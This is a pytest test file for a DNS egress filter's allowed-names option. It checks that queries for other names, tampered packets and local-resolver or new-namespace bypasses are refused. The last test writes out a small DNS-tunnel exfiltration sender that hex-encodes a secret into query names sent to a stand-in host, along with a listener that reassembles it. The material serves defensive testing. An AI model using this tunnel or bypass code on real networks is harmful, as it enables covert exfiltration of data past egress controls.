"""spec.dns.onlyAllowedNames: a question for another name does not leave, whatever way it is asked."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from typing import Any

import pytest

from tests.network.conftest import Result
from tests.network.workload import RESOLVER, python
from tests.topology import DNS4, Lab, end

ONLY = ("--only-allowed-names", "--resolver", DNS4)
ASKS = f"""
def ask(name, kind="A", server="{RESOLVER}", change=lambda data: data, tcp=False):
    data = change(bytes(DNSRecord.question(name, kind).pack()))
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((server, 53))
        s.send(len(data).to_bytes(2, "big") + data if tcp else data)
        return DNSRecord.parse(s.recv(4096)[2 if tcp else 0:]).header.a
"""

OWN_NAMESPACE = """
import fcntl
assert ctypes.CDLL(None).unshare(0x50000000) == 0
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    fcntl.ioctl(s, 0x8914, struct.pack("16sh22x", b"lo", 0x49))  # SIOCSIFFLAGS: up, running
"""


def asking(expression: str) -> list[str]:
    return python(f"{ASKS}\ntell(outcome(lambda: {expression}))")


@pytest.mark.parametrize(
    ("question", "told"),
    [
        ("ask('example.com')", 1),
        ("ask('EXAMPLE.com')", 1),
        ("ask('example.com', 'TXT')", 0),
        ("ask('www.example.com')", "EPERM"),
        ("ask('example.net')", "EPERM"),
        ("ask('com')", "EPERM"),
        ("ask('secret-data.tunnel.test', 'TXT')", "EPERM"),
        ("ask('secret-data.tunnel.test', 'NULL')", "EPERM"),
        ("ask('se.cret.example.com.tunnel.test')", "EPERM"),
        ("ask('evil\\\\032name.test')", "EPERM"),
        ("ask('example.com', change=lambda d: d[:4] + bytes([0, 2]) + d[6:] + d[12:])", "EPERM"),
        ("ask('example.com', change=lambda d: d[:2] + bytes([0x28]) + d[3:])", "EPERM"),
        ("ask('example.com', change=lambda d: d[:20])", "EPERM"),
        ("ask('example.net', tcp=True)", 0),
        ("ask('example.com', tcp=True)", 1),
    ],
)
def test_what_may_be_asked(run: Callable[..., Result], question: str, told: object) -> None:
    assert run("--allow", "example.com", *ONLY, "--", *asking(question)).told == told


def test_without_the_option_every_name_may_be_asked_for(run: Callable[..., Result]) -> None:
    done = run("--allow", "example.com", "--resolver", DNS4, "--", *asking("ask('example.net')"))
    assert done.told == 1


def test_a_refused_question_is_told_by_its_family(run: Callable[..., Result]) -> None:
    tunnel = "[outcome(lambda: ask(f'{i:x}.data.tunnel.test', 'TXT')) for i in range(50)]"
    done = run("--allow", "example.com", *ONLY, "--", *asking(tunnel))
    assert done.told == ["EPERM"] * 50
    (row,) = [row for row in done.summary["refused"] if row["reason"] == "QUESTION_REFUSED"]
    assert (row["name"], row["protocol"], row["count"]) == ("*.tunnel.test", "DNS question", 50)


def test_names_with_the_search_suffixes_may_be_asked_for(run: Callable[..., Result], lab: Lab) -> None:
    """As a C library does that tries its search list first; the suffix alone opens nothing."""
    before = lab.resolv_conf.read_text()
    lab.resolv_conf.write_text(f"{before}search corp.test svc.corp.test\n")
    try:
        asks = "[outcome(lambda: ask(n)) for n in (%s)]"
        names = (
            "example.com",
            "example.com.corp.test",
            "example.com.svc.corp.test",
            "aexample.com.corp.test",
        )
        others = (
            "corp.test",
            "x.corp.test",
            "example.net.corp.test",
            "example.com.test",
            "example.comcorp.test",
        )
        done = run("--allow", "example.com", *ONLY, "--", *asking(asks % repr([*names, *others])[1:-1]))
        assert done.told == [1, 0, 0, "EPERM", *["EPERM"] * 5]
    finally:
        lab.resolv_conf.write_text(before)


def test_patterns_may_be_asked_for_with_suffixes_too(
    run: Callable[..., Result], lab: Lab, tmp_path: Any
) -> None:
    document = tmp_path / "policy.yaml"
    document.write_text(
        "apiVersion: egress.skouter/v1alpha1\nkind: Egress\nmetadata: {name: a}\nspec:\n"
        "  podSelector: {}\n  dns: {onlyAllowedNames: true}\n"
        "  rules: [{regex: ['(www|four)[.]example[.]com']}]\n"
    )
    before = lab.resolv_conf.read_text()
    lab.resolv_conf.write_text(f"{before}search corp.test\n")
    try:
        names = (
            "www.example.com",
            "four.example.com.corp.test",
            "six.example.com",
            "six.example.com.corp.test",
        )
        done = run(
            "--policy", document, *ONLY[1:], "--", *asking(f"[outcome(lambda: ask(n)) for n in {names}]")
        )
        assert done.told == [1, 0, "EPERM", "EPERM"]
    finally:
        lab.resolv_conf.write_text(before)


def test_an_audited_question_passes_and_is_told(run: Callable[..., Result]) -> None:
    done = run("--audit", "--allow", "example.com", *ONLY, "--", *asking("ask('example.net')"))
    assert done.told == 1
    assert {row["reason"] for row in done.summary["refused"]} == {"QUESTION_REFUSED"}


def test_a_question_from_another_network_namespace_is_checked_too(run: Callable[..., Result]) -> None:
    """Over its own loopback: no other server on this host may be asked."""
    told = f"{OWN_NAMESPACE}\n{ASKS}\ntell(outcome(lambda: ask('example.net', server='127.0.0.1')))"
    assert run("--allow", "example.com", *ONLY, "--", *python(told)).told == "EPERM"


@pytest.mark.parametrize("server", ["127.0.0.1", "127.0.0.53", "127.0.0.54"])
@pytest.mark.parametrize("tcp", [False, True])
def test_no_other_server_on_this_host_may_be_asked(
    run: Callable[..., Result], server: str, tcp: bool
) -> None:
    done = run(
        "--allow", "example.com", *ONLY, "--", *asking(f"ask('example.com', server='{server}', tcp={tcp})")
    )
    assert done.told == "EPERM"


SENDER = """
data = b"the secret of the house, which is longer than one question holds"
for at in range(0, len(data), 20):
    outcome(lambda: ask(data[at:at + 20].hex() + ".tunnel.test", "TXT", server="192.0.2.54"))
tell(outcome(lambda: ask("example.com", server="192.0.2.54")))
"""
SERVER = """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
    server.bind(("192.0.2.54", 5300))
    tell("ready")
    while True:
        data, client = server.recvfrom(4096)
        print(DNSRecord.parse(data).q.qname, flush=True)
        server.sendto(DNSRecord.parse(data).reply().pack(), client)
"""


def test_a_tunnel_through_questions_carries_nothing(run: Callable[..., Result], lab: Lab) -> None:
    """Twenty lines that send a secret in names; without the option all of it arrives at the other end."""
    sender = [*python((ASKS + SENDER).replace("53))", "5300))"))]
    server = lab.world.start(*python(SERVER), stdout=subprocess.PIPE)
    try:
        assert server.stdout is not None
        assert server.stdout.readline() == '"ready"\n'
        arrived = []
        for options in (("--only-allowed-names",), ()):
            words = ("--allow", "example.com", *options, "--resolver", "192.0.2.54:5300", "--", *sender)
            assert run(*words).told == 0
            arrived.append([name := server.stdout.readline()])
            while name != "example.com.\n":
                arrived[-1].append(name := server.stdout.readline())
        assert arrived[0] == ["example.com.\n"]
        secret = b"".join(bytes.fromhex(name.split(".")[0]) for name in arrived[1][:-1])
        assert secret.startswith(b"the secret of the house")
        assert secret.endswith(b"holds")
    finally:
        end(server)
